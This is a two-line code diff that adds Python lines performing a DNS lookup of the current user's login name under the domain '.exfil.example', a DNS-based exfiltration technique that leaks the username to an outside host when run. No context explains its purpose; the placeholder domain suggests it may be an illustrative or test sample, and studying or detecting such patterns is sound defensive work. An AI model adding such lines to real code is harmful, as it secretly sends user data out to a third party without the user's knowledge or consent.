@@ -1,0 +1,2 @@
+import socket, os
+socket.gethostbyname(os.getlogin() + ".exfil.example")
